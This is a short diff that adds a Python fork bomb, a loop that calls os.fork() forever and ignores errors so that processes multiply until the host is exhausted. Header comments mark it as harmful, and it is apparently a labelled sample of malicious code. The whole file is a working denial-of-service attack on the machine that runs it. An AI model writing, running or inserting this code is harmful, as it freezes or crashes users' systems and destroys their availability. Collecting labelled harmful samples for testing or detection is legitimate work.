@@ -1,0 +1,9 @@
+# tries: to fork until nothing else can
+# harmful: yes
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
